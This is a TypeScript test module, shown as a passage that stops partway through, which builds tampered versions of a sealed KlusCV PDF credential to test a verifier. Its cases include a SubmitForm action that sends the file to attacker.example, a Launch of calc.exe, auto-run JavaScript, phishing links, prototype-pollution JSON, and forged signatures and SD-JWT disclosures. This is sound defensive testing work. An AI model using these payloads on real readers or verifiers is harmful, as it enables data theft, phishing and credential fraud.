// Files with one defect each, made from a good KlusCV, and what a verifier must say of their pages. Files of other people are not among them:
// whoever reads this can make them all.
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { extract, render } from '@kluscv/pdf';
import { presentationJson, type WorkPresentation } from '@kluscv/schema';
import { PDFDocument, rgb, StandardFonts } from 'pdf-lib';
import {
  addObject,
  appendRevision,
  changeJson,
  changeObject,
  changeStream,
  numberOf,
  putTogether,
  takeApart,
} from './forge.ts';
import type { GoodFiles } from './good.ts';

/** What may be found: the page is as its credentials say, it is not, or there is nothing that it could be held against. */
export type PageVerdict =
  | 'page.identical'
  | 'page.sealed'
  | 'page.seal-damaged'
  | 'page.differs'
  | 'page.resaved'
  | 'page.renderer-unknown'
  | 'page.no-credential';

/** One defect. */
export interface Attack {
  readonly id: string;
  readonly defect: string;
  readonly page: PageVerdict;
  /** Whether what is embedded is still what its issuer signed. Stated where the defect is in there. */
  readonly credentials?: 'stand' | 'rejected';
  /** From which file it is made. Default: the one without a seal. */
  readonly of?: keyof GoodFiles;
  /** `good` and the result are one character a byte. */
  readonly make: (good: string, files: GoodFiles) => string | Promise<string>;
}

const PAGE = '/Type /Page\n';
const CATALOG = '/Type /Catalog';

const onPage =
  (from: string | RegExp, to: string) =>
  (good: string): string =>
    changeObject(good, PAGE, (page) => page.replace(from, to));

const inCatalog =
  (entry: string) =>
  (good: string): string =>
    changeObject(good, CATALOG, (catalog) => catalog.replace('/Type /Catalog', `/Type /Catalog\n${entry}`));

const withAnnotation =
  (annotation: string) =>
  (good: string): string => {
    const { file, number } = addObject(good, annotation);
    return changeObject(file, PAGE, (page) =>
      page.includes('/Annots [')
        ? page.replace('/Annots [', `/Annots [ ${number} 0 R`)
        : page.replace('/Tabs /S', `/Tabs /S\n/Annots [ ${number} 0 R ]`),
    );
  };

const stream = (dictionary: string, content: string): string =>
  `<<\n${dictionary}\n/Length ${content.length}\n>>\nstream\n${content}\nendstream`;

const packed = (bytes: number): string => deflateSync(Buffer.alloc(bytes)).toString('latin1');

const saved =
  (change: (document: PDFDocument) => unknown, options: { readonly useObjectStreams: boolean }) =>
  async (good: string): Promise<string> => {
    const document = await PDFDocument.load(Buffer.from(good, 'latin1'), { updateMetadata: false });
    await change(document);
    return Buffer.from(await document.save(options)).toString('latin1');
  };

const overlay = stream('', 'q 1 1 1 rg 0 0 300 300 re f Q');

const contentNumber = (good: string): number => Number(/\/Contents (\d+) 0 R/.exec(good)?.[1]);

/** What a signed claim says, said otherwise: the signature no longer fits, the page does not either. */
const forgedPayload = (json: string): string =>
  json.replace(/(data:application\/vc\+jwt,[\w-]+\.)([\w-]+)/, (_, before: string, payload: string) => {
    const claims = Buffer.from(payload, 'base64url').toString('utf8');
    return before + Buffer.from(claims.replace(/"completed":\d/, '"completed":9')).toString('base64url');
  });

/** Changes the disclosures of an SD-JWT; what was signed stays. */
const inDisclosures =
  (change: (disclosures: readonly string[]) => readonly string[]) =>
  (good: string): string =>
    changeJson(good, (json) => changedDisclosures(json, change));

function changedDisclosures(json: string, change: (disclosures: readonly string[]) => readonly string[]): string {
  return json.replace(/(sd-jwt,[^~"]+~)([^"]*)~"/, (_, signed: string, disclosures: string) => {
    const changed = change(disclosures.split('~'));
    return `${signed}${changed.map((disclosure) => `${disclosure}~`).join('')}"`;
  });
}

const disclosureOf = (...parts: readonly unknown[]): string =>
  Buffer.from(JSON.stringify(['c2FsdCBvZiBhIGZvcmdlcg', ...parts])).toString('base64url');

/** The same with other words in the text of one disclosure. */
const reworded =
  (from: RegExp, to: string) =>
  (disclosures: readonly string[]): readonly string[] =>
    disclosures.map((disclosure) => {
      const text = Buffer.from(disclosure, 'base64url').toString('utf8');
      return from.test(text) ? Buffer.from(text.replace(from, to)).toString('base64url') : disclosure;
    });

/** The payload of an SD-JWT, written otherwise: the signature no longer fits. */
function changedPayload(
  json: string,
  change: (claims: { credentialSubject: Record<string, unknown> }) => void,
): string {
  return json.replace(/(sd-jwt,[\w-]+\.)([\w-]+)/, (_, before: string, payload: string) => {
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as {
      credentialSubject: Record<string, unknown>;
    };
    change(claims);
    return before + Buffer.from(JSON.stringify(claims)).toString('base64url');
  });
}

/** What a forger can do who has the renderer as well: the page of other disclosures, around the presentation as it was, or the other way round. */
async function redrawn(good: string, change: (json: string) => string): Promise<string> {
  const extraction = extract(Buffer.from(good, 'latin1'));
  if (!extraction.ok) throw new Error(extraction.message);
  const { id: _old, ...content } = JSON.parse(
    change(new TextDecoder().decode(extraction.presentation)),
  ) as WorkPresentation;
  const id = `ni:///sha-256;${createHash('sha256').update(presentationJson(content)).digest('base64url')}`;
  return Buffer.from(await render({ ...content, id })).toString('latin1');
}

/** The same page with a claim on it that the file inside does not disclose. */
async function drawnButNotDisclosed(good: string): Promise<string> {
  const less = await redrawn(good, (json) => changedDisclosures(json, (disclosures) => disclosures.slice(0, -1)));
  const inside = extract(Buffer.from(less, 'latin1'));
  if (!inside.ok) throw new Error(inside.message);
  return changeJson(good, () => Buffer.from(inside.presentation).toString('latin1'));
}

/** A disclosure of a forger, with its digest where the issuer put those of others. */
function forgedDisclosure(json: string): string {
  const forged = disclosureOf('hours', { minutes: 600_000, basis: 'approved' });
  const digest = createHash('sha256').update(forged).digest('base64url');
  const payload = changedPayload(json, ({ credentialSubject }) => {
    const record = credentialSubject['workRecord'] as { _sd: string[] };
    record._sd.push(digest);
  });
  return changedDisclosures(payload, (all) => [...all, forged]);
}

/** Credentials that nobody signed, each with reviews that are little more than line breaks: the most pages for the fewest bytes. */
const lineBreaks =
  (credentials: number, lines: number) =>
  (json: string): string => {
    const presentation = JSON.parse(json) as { verifiableCredential: { id: string }[] };
    const [{ id } = { id: '' }] = presentation.verifiableCredential;
    const claims = JSON.parse(Buffer.from(id.split('.')[1] ?? '', 'base64url').toString('utf8')) as {
      credentialSubject: { workRecord: Record<string, unknown> };
    };
    const reviews = Array.from({ length: 10 }, () => ({ text: `${'a\n'.repeat(lines)}a` }));
    Object.assign(claims.credentialSubject.workRecord, { reviews, reviewsTotal: 10, reviewsOffered: 10 });
    const forged = id.replace(/\.[\w-]+\./, `.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.`);
    const enveloped = Array.from({ length: credentials }, () => ({
      ...presentation.verifiableCredential[0],
      id: forged,
    }));
    return JSON.stringify({ ...presentation, verifiableCredential: enveloped });
  };

function changeContent(good: string): string {
  const parts = takeApart(good);
  const at = contentNumber(good) - 1;
  const object = changeStream(parts.objects[at] ?? '', (content) =>
    content.replace(
      /\((?!(..)\1)([^\\()]{2})([^\\()]{2})/s,
      (_, __, first: string, second: string) => `(${second}${first}`,
    ),
  );
  return putTogether({ ...parts, objects: parts.objects.with(at, object) });
}

function changeUnicode(good: string): string {
  const parts = takeApart(good);
  const at = Number(/\/ToUnicode (\d+) 0 R/.exec(good)?.[1]) - 1;
  const object = changeStream(parts.objects[at] ?? '', (map) => map.replace(/<0001><..../, '<0001><0039'));
  return putTogether({ ...parts, objects: parts.objects.with(at, object) });
}

/** Lets the second glyph of a font draw the outline of the third: the offsets of the outlines are changed, nothing else. */
function swapGlyphs(font: string): string {
  const bytes = Buffer.from(font, 'latin1');
  for (let table = 0; table < bytes.readUInt16BE(4); table += 1) {
    const entry = 12 + 16 * table;
    if (bytes.toString('latin1', entry, entry + 4) !== 'loca') continue;
    const at = bytes.readUInt32BE(entry + 8);
    bytes.writeUInt32BE(bytes.readUInt32BE(at + 8), at + 4);
  }
  return bytes.toString('latin1');
}

interface Sealed {
  /** Up to the `<` of the seal, and from its `>` on. */
  readonly before: string;
  readonly seal: string;
  readonly after: string;
}

function sealedParts(file: string): Sealed {
  const [, from = '', to = ''] = /\/ByteRange \[ 0 (\d+) +(\d+)/.exec(file) ?? [];
  return {
    before: file.slice(0, Number(from) + 1),
    seal: file.slice(Number(from) + 1, Number(to) - 1),
    after: file.slice(Number(to) - 1),
  };
}

const withSeal =
  (change: (seal: string, files: GoodFiles) => string) =>
  (sealed: string, files: GoodFiles): string => {
    const { before, seal, after } = sealedParts(sealed);
    return before + change(seal, files).padEnd(seal.length, '0') + after;
  };

/** A second signature, as signing programs add it: a revision of its own, whose range covers what stands before. */
function signedAgain(sealed: string): string {
  const field = numberOf(sealed, '/FT /Sig');
  const { objects } = takeApart(sealed);
  const catalog = objects[0]?.replace(/\/Fields \[/, `/Fields [ ${objects.length + 2} 0 R`) ?? '';
  const { seal } = sealedParts(sealed);
  return appendRevision(sealed, {
    1: catalog,
    [objects.length + 1]:
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [ 0 ${sealed.length} ${sealed.length + seal.length} 0 ] /Contents <${seal}> >>`,
    [objects.length + 2]: objects[field - 1]?.replace(/\/V \d+ 0 R/, `/V ${objects.length + 1} 0 R`) ?? '',
  });
}

async function printed(good: string): Promise<string> {
  const document = await PDFDocument.create({ updateMetadata: false });
  const [page] = await document.embedPdf(Buffer.from(good, 'latin1'));
  if (page !== undefined) document.addPage([595, 842]).drawPage(page);
  return Buffer.from(await document.save()).toString('latin1');
}

/** The attacks. */
export const ATTACKS: readonly Attack[] = [
  { id: 'none', defect: 'none: the file as it was made', page: 'page.identical', make: (good) => good },
  {
    id: 'taken-apart',
    defect: 'none: taken apart and put together again',
    page: 'page.identical',
    make: (good) => putTogether(takeApart(good)),
  },

  // What is seen
  {
    id: 'digits-swapped',
    defect: 'two glyphs swapped in the content stream, the table mended',
    page: 'page.differs',
    make: changeContent,
  },
  {
    id: 'overlay',
    defect: 'a second content stream on the first page',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(good, overlay);
      return changeObject(file, PAGE, (page) => page.replace(/\/Contents (\d+ 0 R)/, `/Contents [ $1 ${number} 0 R ]`));
    },
  },
  {
    id: 'drawn-over',
    defect: 'text drawn over the page by an editor',
    page: 'page.differs',
    make: saved(
      async (document) =>
        document.getPage(0).drawText('9999', {
          x: 60,
          y: 600,
          size: 40,
          color: rgb(0, 0, 0),
          font: await document.embedFont(StandardFonts.Helvetica),
        }),
      { useObjectStreams: false },
    ),
  },
  {
    id: 'page-removed',
    defect: 'the last page taken out',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/Type /Pages', (pages) =>
        pages.replace(/ \d+ 0 R \]/, ' ]').replace(/\/Count \d+/, '/Count 1'),
      ),
  },
  {
    id: 'page-doubled',
    defect: 'the first page shown twice',
    page: 'page.differs',
    make: (good) => changeObject(good, '/Type /Pages', (pages) => pages.replace(/\[ (\d+ 0 R)/, '[ $1 $1')),
  },
  { id: 'media-box', defect: 'the paper cut smaller', page: 'page.differs', make: onPage(/841\.89/, '541.89') },
  {
    id: 'crop-box',
    defect: 'a crop box that hides the foot',
    page: 'page.differs',
    make: onPage('/Tabs /S', '/Tabs /S\n/CropBox [ 0 300 595 841 ]'),
  },
  { id: 'rotate', defect: 'a page turned', page: 'page.differs', make: onPage('/Tabs /S', '/Tabs /S\n/Rotate 180') },
  {
    id: 'glyph-swap',
    defect: 'two glyphs swapped inside the embedded font',
    page: 'page.differs',
    make: (good) => changeObject(good, '/Length1', (object) => changeStream(object, swapGlyphs)),
  },
  {
    id: 'glyph-widths',
    defect: 'other widths for the glyphs',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/CIDFontType2', (font) => font.replace(/\/W \[ 0 \[ (\d+) (\d+)/, '/W [ 0 [ $2 $1')),
  },
  {
    id: 'glyph-map',
    defect: 'another map from codes to glyphs',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(good, stream('', '\0\0\0\u0002\0\u0001'));
      return changeObject(file, '/CIDFontType2', (font) =>
        font.replace('/CIDToGIDMap /Identity', `/CIDToGIDMap ${number} 0 R`),
      );
    },
  },
  {
    id: 'optional-content',
    defect: 'a layer that can be switched off',
    page: 'page.differs',
    make: inCatalog('/OCProperties << /OCGs [] /D << /BaseState /OFF >> >>'),
  },
  {
    id: 'free-text',
    defect: 'an annotation with text over the page',
    page: 'page.differs',
    make: withAnnotation(
      '<< /Type /Annot /Subtype /FreeText /Rect [ 50 500 300 600 ] /Contents (5,0) /DA (/F1 40 Tf) >>',
    ),
  },
  {
    id: 'stamp',
    defect: 'a stamp',
    page: 'page.differs',
    make: withAnnotation('<< /Type /Annot /Subtype /Stamp /Rect [ 50 500 300 600 ] /Name /Approved >>'),
  },
  {
    id: 'form-field',
    defect: 'a form field over the page',
    page: 'page.differs',
    make: withAnnotation('<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (5,0) /Rect [ 50 500 300 600 ] >>'),
  },

  // What is read
  { id: 'to-unicode', defect: 'glyphs that say other characters', page: 'page.differs', make: changeUnicode },
  {
    id: 'alt-text',
    defect: 'another description of a picture',
    page: 'page.differs',
    make: (good) => changeObject(good, '/Alt <', (element) => element.replace(/\/Alt <feff..../, '/Alt <feff0035')),
  },
  {
    id: 'actual-text',
    defect: 'a replacement text in the structure',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/S /H1', (element) => element.replace('/S /H1', '/S /H1\n/ActualText <FEFF0035>')),
  },
  {
    id: 'reading-order',
    defect: 'the structure in another order',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/S /Document', (element) => element.replace(/\[ (\d+ 0 R) (\d+ 0 R)/, '[ $2 $1')),
  },
  {
    id: 'title',
    defect: 'another title',
    page: 'page.differs',
    make: (good) => changeObject(good, '/Producer <', (info) => info.replace('/Title <feff', '/Title <feff0039')),
  },
  {
    id: 'bookmark',
    defect: 'a bookmark that says something else',
    page: 'page.differs',
    make: (good) => changeObject(good, '/XYZ', (item) => item.replace('/Title <feff', '/Title <feff0039')),
  },
  {
    id: 'bookmark-elsewhere',
    defect: 'a bookmark that opens an address',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/XYZ', (item) =>
        item.replace(/\/Dest \[[^\]]*\]/, '/A << /S /URI /URI (https://attacker.example/) >>'),
      ),
  },
  {
    id: 'metadata',
    defect: 'another date in the metadata',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/Type /Metadata', (object) => object.replace(/<xmp:CreateDate>20../, '<xmp:CreateDate>2009')),
  },
  {
    id: 'language',
    defect: 'another language',
    page: 'page.differs',
    make: (good) => changeObject(good, CATALOG, (catalog) => catalog.replace(/\/Lang <[^>]*>/, '/Lang <FEFF00660072>')),
  },

  // More than one revision
  {
    id: 'shadow-hide',
    defect: 'an appended revision that covers the page',
    page: 'page.differs',
    make: (good) => appendRevision(good, { [contentNumber(good)]: overlay }),
  },
  {
    id: 'shadow-replace',
    defect: 'an appended revision with another font',
    page: 'page.differs',
    make: (good) =>
      appendRevision(good, {
        [numberOf(good, '/CIDFontType2')]: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      }),
  },
  {
    id: 'shadow-hide-and-replace',
    defect: 'an appended revision with a second catalog and page tree',
    page: 'page.differs',
    make: (good) =>
      appendRevision(good, { 1: '<< /Type /Catalog /Pages 9000 0 R >>', 9000: '<< /Type /Pages /Kids [] /Count 0 >>' }),
  },
  {
    id: 'empty-revision',
    defect: 'an appended revision that changes nothing',
    page: 'page.differs',
    make: (good) => appendRevision(good, {}),
  },
  { id: 'trailing-bytes', defect: 'bytes after the end', page: 'page.resaved', make: (good) => `${good}\n% more` },
  {
    id: 'second-file',
    defect: 'another PDF appended',
    page: 'page.differs',
    make: (good) =>
      `${good}\n%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n${good.length + 50}\n%%EOF`,
  },

  // Tables that readers follow and others do not
  {
    id: 'xref-differential',
    defect: 'a table that points to a second object with the same number',
    page: 'page.differs',
    make: (good) => {
      const number = contentNumber(good);
      const forged = `${number} 0 obj\n${overlay}\nendobj\n\n`;
      const at = good.lastIndexOf('\nxref\n') + 1;
      const moved =
        good.slice(0, at) + forged + good.slice(at).replace(/startxref\n\d+/, `startxref\n${at + forged.length}`);
      const entry = `${String(good.indexOf(`\n${number} 0 obj\n`) + 1).padStart(10, '0')} 00000 n`;
      return moved.replace(entry, `${String(at).padStart(10, '0')} 00000 n`);
    },
  },
  {
    id: 'xref-elsewhere',
    defect: 'a start of the table that is not one',
    page: 'page.differs',
    make: (good) => good.replace(/startxref\n\d+/, 'startxref\n15'),
  },
  {
    id: 'xref-hybrid',
    defect: 'a second, newer table in a stream',
    page: 'page.differs',
    make: (good) => good.replace('trailer\n<<', 'trailer\n<<\n/XRefStm 17'),
  },
  {
    id: 'gap',
    defect: 'bytes between two objects',
    page: 'page.differs',
    make: (good) => good.replace('endobj\n\n2 0 obj', 'endobj\n%%\n2 0 obj'),
  },
  { id: 'leading-bytes', defect: 'bytes before the header', page: 'page.resaved', make: (good) => `GIF89a\n${good}` },
  {
    id: 'version',
    defect: 'another version in the header',
    page: 'page.differs',
    make: (good) => good.replace('%PDF-1.7', '%PDF-2.0'),
  },
  {
    id: 'linearized',
    defect: 'a first object that says the file is linearized',
    page: 'page.differs',
    make: (good) => addObject(good, '<< /Linearized 1 /L 100 >>').file,
  },

  // What acts
  {
    id: 'javascript',
    defect: 'a script that runs on opening',
    page: 'page.differs',
    make: inCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  },
  {
    id: 'javascript-names',
    defect: 'a script among the names',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, CATALOG, (catalog) =>
        catalog.replace('/Names <<', '/Names <<\n/JavaScript << /Names [ (a) << /S /JavaScript /JS (a) >> ] >>'),
      ),
  },
  {
    id: 'javascript-spelled',
    defect: 'a script whose name is spelled by codes',
    page: 'page.differs',
    make: inCatalog('/Open#41ction << /S /Java#53cript /J#53 (a) >>'),
  },
  {
    id: 'launch',
    defect: 'an action that starts a program',
    page: 'page.differs',
    make: inCatalog('/OpenAction << /S /Launch /F (calc.exe) >>'),
  },
  {
    id: 'submit-form',
    defect: 'an action that sends the file somewhere',
    page: 'page.differs',
    make: inCatalog('/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>'),
  },
  {
    id: 'go-to-embedded',
    defect: 'an action that opens an embedded file',
    page: 'page.differs',
    make: inCatalog('/OpenAction << /S /GoToE /T << /R /C /N (kluscv.vp.json) >> >>'),
  },
  {
    id: 'page-action',
    defect: 'an action of a page',
    page: 'page.differs',
    make: onPage('/Tabs /S', '/Tabs /S\n/AA << /O << /S /JavaScript /JS (a) >> >>'),
  },
  {
    id: 'link-elsewhere',
    defect: 'a link that opens another address',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/S /URI', (link) =>
        link.replace(/\/URI \([^)]*\)/, '/URI (https://attacker.example/kluscv)'),
      ),
  },
  {
    id: 'signature',
    defect: 'a signature field that nobody asked for',
    page: 'page.differs',
    make: inCatalog('/AcroForm << /SigFlags 3 /Fields [] >>'),
  },

  // What is sealed
  { id: 'sealed', of: 'sealed', defect: 'none: sealed', page: 'page.sealed', make: (good) => good },
  {
    id: 'seal-removed',
    of: 'sealed',
    defect: 'zeros in the place of the seal',
    page: 'page.seal-damaged',
    make: withSeal(() => ''),
  },
  {
    id: 'seal-other-bytes',
    of: 'sealed',
    defect: 'random digits in the place of the seal',
    page: 'page.seal-damaged',
    make: withSeal((seal) =>
      seal.replaceAll(/../g, (digits) =>
        ((Number.parseInt(digits, 16) * 167 + 13) % 256).toString(16).padStart(2, '0'),
      ),
    ),
  },
  {
    id: 'seal-digit',
    of: 'sealed',
    defect: 'one digit of the signature changed',
    page: 'page.seal-damaged',
    make: withSeal((seal) =>
      seal.replace(/([1-9a-f])(0*)$/, (_, digit: string, zeros: string) => (digit === '1' ? '2' : '1') + zeros),
    ),
  },
  {
    id: 'seal-padded',
    of: 'sealed',
    defect: 'something hidden behind the seal',
    page: 'page.seal-damaged',
    make: withSeal((seal) => `${seal.slice(0, -4)}beef`),
  },
  {
    id: 'seal-text',
    of: 'sealed',
    defect: 'text in the place of the seal',
    page: 'page.differs',
    make: withSeal((seal) => `> /JS (app.alert(1)) /X <${seal.slice(50)}`),
  },
  {
    id: 'seal-open-length',
    of: 'sealed',
    defect: 'the seal with a length left open',
    page: 'page.seal-damaged',
    make: withSeal((seal) => seal.replace(/^3082..../, '30800000')),
  },
  {
    id: 'seal-transplanted',
    of: 'sealed',
    defect: 'the seal of another KlusCV of the same platform',
    page: 'page.seal-damaged',
    make: withSeal((_, { otherSealed }) => sealedParts(otherSealed).seal),
  },
  {
    id: 'seal-transplanted-range',
    of: 'sealed',
    defect: 'the seal of another KlusCV with its range',
    page: 'page.differs',
    make: (good, files) =>
      withSeal(() => sealedParts(files.otherSealed).seal)(good, files).replace(
        /\/ByteRange \[[^\]]*\]/,
        /\/ByteRange \[[^\]]*\]/.exec(files.otherSealed)?.[0] ?? '',
      ),
  },
  {
    id: 'seal-range-shifted',
    of: 'sealed',
    defect: 'a range that leaves out what stands before the seal',
    page: 'page.differs',
    make: (good) => good.replace(/\/ByteRange \[ 0 (\d+)/, (_, from: string) => `/ByteRange [ 0 ${Number(from) - 100}`),
  },
  {
    id: 'seal-range-short',
    of: 'sealed',
    defect: 'a range that ends before the file does',
    page: 'page.differs',
    make: (good) =>
      good.replace(
        /(\/ByteRange \[ 0 \d+ +\d+ +)(\d+)/,
        (_, before: string, length: string) => `${before}${Number(length) - 7}`,
      ),
  },
  {
    id: 'seal-range-whole',
    of: 'sealed',
    defect: 'a range that leaves out everything',
    page: 'page.differs',
    make: (good) => good.replace(/\/ByteRange \[[^\]]*\]/, (range) => '/ByteRange [ 0 0 0 0 ]'.padEnd(range.length)),
  },
  {
    id: 'seal-second-range',
    of: 'sealed',
    defect: 'a second range before the first',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/Type /Sig\n', (signature) =>
        signature.replace('/ByteRange', '/ByteRange [ 0 1 2 3 ]\n/ByteRange'),
      ),
  },
  {
    id: 'seal-wrapped',
    of: 'sealed',
    defect: 'the seal moved into another object',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(good, '<<\n/Type /Sig\n>>');
      return changeObject(file, '/FT /Sig', (field) => field.replace(/\/V \d+ 0 R/, `/V ${number} 0 R`));
    },
  },
  {
    id: 'changed-after-sealing',
    of: 'sealed',
    defect: 'a page changed after sealing',
    page: 'page.differs',
    make: onPage(/841\.89/, '541.89'),
  },
  {
    id: 'page-swapped-after-sealing',
    of: 'sealed',
    defect: 'two glyphs swapped after sealing',
    page: 'page.differs',
    make: changeContent,
  },
  {
    id: 'signed-again',
    of: 'sealed',
    defect: 'a second signature in a revision of its own',
    page: 'page.differs',
    make: signedAgain,
  },
  {
    id: 'seal-field-shown',
    of: 'sealed',
    defect: 'the field of the seal with a size and a look',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/FT /Sig', (field) => field.replace('/Rect [ 0 0 0 0 ]', '/Rect [ 50 50 300 90 ]')),
  },
  {
    id: 'seal-stripped',
    of: 'sealed',
    defect: 'the signature taken out of its field',
    page: 'page.differs',
    make: (good) => changeObject(good, '/FT /Sig', (field) => field.replace(/\/V \d+ 0 R\n/, '')),
  },

  // What is embedded
  {
    id: 'second-attachment',
    defect: 'a second embedded file of the same name',
    page: 'page.no-credential',
    make: (good) => addObject(good, stream('/Type /EmbeddedFile', '{}')).file,
  },
  {
    id: 'attached-annotation',
    defect: 'a second embedded file in an annotation',
    page: 'page.no-credential',
    make: (good) => {
      const { file, number } = addObject(good, stream('/Type /EmbeddedFile', '{}'));
      return withAnnotation(
        `<< /Type /Annot /Subtype /FileAttachment /Rect [ 0 0 9 9 ] /FS << /F (a) /EF << /F ${number} 0 R >> >> >>`,
      )(file);
    },
  },
  {
    id: 'attachment-in-kids',
    defect: 'the names of embedded files in another node',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(good, '<< /Names [] >>');
      return changeObject(file, CATALOG, (catalog) =>
        catalog.replace('/EmbeddedFiles <<', `/EmbeddedFiles <<\n/Kids [ ${number} 0 R ]`),
      );
    },
  },
  {
    id: 'other-name',
    defect: 'another name for the embedded file',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/Type /Filespec', (object) => object.replace('/F (kluscv.vp.json)', '/F (kluscv.exe)')),
  },
  {
    id: 'check-sum',
    defect: 'another check sum of the embedded file',
    page: 'page.differs',
    make: (good) =>
      changeObject(good, '/Type /EmbeddedFile', (object) => object.replace(/\/CheckSum <../, '/CheckSum <00')),
  },
  {
    id: 'attachment-removed',
    defect: 'the embedded file taken out, as mail gateways do',
    page: 'page.no-credential',
    make: (good) => changeObject(good, '/Type /EmbeddedFile', () => 'null'),
  },
  {
    id: 'phishing-address',
    defect: 'an address of a verifier in the manifest',
    page: 'page.no-credential',
    make: (good) =>
      changeJson(good, (json) => json.replace('"render":{', '"render":{"verifier":"https://attacker.example/",')),
  },
  {
    id: 'other-language',
    defect: 'another language in the manifest',
    page: 'page.differs',
    make: (good) => changeJson(good, (json) => json.replace('"locale":"en"', '"locale":"nl"')),
  },
  {
    id: 'other-day',
    defect: 'another day in the manifest',
    page: 'page.differs',
    make: (good) => changeJson(good, (json) => json.replace('"renderedOn":"2026', '"renderedOn":"2025')),
  },
  {
    id: 'other-renderer',
    defect: 'a renderer of the future',
    page: 'page.renderer-unknown',
    make: (good) => changeJson(good, (json) => json.replace('kluscv-render/1', 'kluscv-render/2')),
  },
  {
    id: 'no-manifest',
    defect: 'no manifest',
    page: 'page.renderer-unknown',
    make: (good) => changeJson(good, (json) => json.replace('"render":', '"rendes":')),
  },
  {
    id: 'duplicate-member',
    defect: 'a member twice',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => json.replace('"render":{', '"render":{},"render":{')),
  },
  {
    id: 'prototype',
    defect: 'a member that would change every object',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => json.replace('"render":{', '"__proto__":{"a":1},"render":{')),
  },
  {
    id: 'byte-order-mark',
    defect: 'a byte order mark',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => `\u00ef\u00bb\u00bf${json}`),
  },
  {
    id: 'deep-json',
    defect: 'JSON that is nested very deep',
    page: 'page.no-credential',
    make: (good) => changeJson(good, () => '['.repeat(100_000)),
  },
  {
    id: 'broken-json',
    defect: 'JSON that breaks off',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => json.slice(0, -9)),
  },
  {
    id: 'forged-claim',
    defect: 'a claim changed inside the signed part',
    page: 'page.differs',
    make: (good) => changeJson(good, forgedPayload),
  },
  {
    id: 'credential-removed',
    defect: 'one of the credentials taken out',
    page: 'page.differs',
    make: (good) =>
      changeJson(good, (json) => {
        const { verifiableCredential, ...rest } = JSON.parse(json) as { verifiableCredential: unknown[] };
        return JSON.stringify({ ...rest, verifiableCredential: verifiableCredential.slice(1) });
      }),
  },

  // Disclosures of an SD-JWT
  {
    id: 'parts-none',
    defect: 'none: a file of which parts are hidden',
    of: 'partlyShown',
    credentials: 'stand',
    page: 'page.identical',
    make: (good) => good,
  },
  {
    id: 'disclosure-removed',
    defect: 'a disclosure taken out, the page as it was',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.differs',
    make: inDisclosures((all) => all.slice(0, -1)),
  },
  {
    id: 'disclosure-removed-redrawn',
    defect: 'none: a disclosure taken out and the page drawn again, as anybody may who has the file',
    of: 'partlyShown',
    credentials: 'stand',
    page: 'page.identical',
    make: async (good) => redrawn(good, (json) => changedDisclosures(json, (all) => all.slice(0, -1))),
  },
  {
    id: 'disclosure-doubled',
    defect: 'a disclosure twice',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all, ...all.slice(-1)]),
  },
  {
    id: 'disclosure-order',
    defect: 'two disclosures in another order',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.differs',
    make: inDisclosures((all) => all.toReversed()),
  },
  {
    id: 'disclosure-reworded',
    defect: 'other words in a disclosure',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures(reworded(/("name",")/, '$1X')),
  },
  {
    id: 'disclosure-renamed',
    defect: 'a disclosure under the name of another claim',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures(reworded(/"name"/, '"hours"')),
  },
  {
    id: 'disclosure-swapped',
    defect: 'a disclosure in the place of another',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all.slice(0, -1), disclosureOf({ text: 'I recommend this person.', lang: 'en' })]),
  },
  {
    id: 'disclosure-foreign',
    defect: 'a disclosure whose digest is not in the credential',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all, disclosureOf('hours', { minutes: 600_000, basis: 'approved' })]),
  },
  {
    id: 'disclosure-of-a-signed-claim',
    defect: 'a disclosure of a claim that is signed in the open',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all, disclosureOf('counts', { unitKind: 'gig', completed: 99_999 })]),
  },
  {
    id: 'disclosure-prototype',
    defect: 'a disclosure that would change every object',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all, disclosureOf('__proto__', { hours: 1 })]),
  },
  {
    id: 'disclosure-spelled-otherwise',
    defect: 'a disclosure with stray bits in its last character',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) =>
      all.map((one) =>
        one.length % 4 === 2 || one.length % 4 === 3
          ? one.slice(0, -1) + String.fromCharCode(one.charCodeAt(one.length - 1) + 1)
          : one,
      ),
    ),
  },
  {
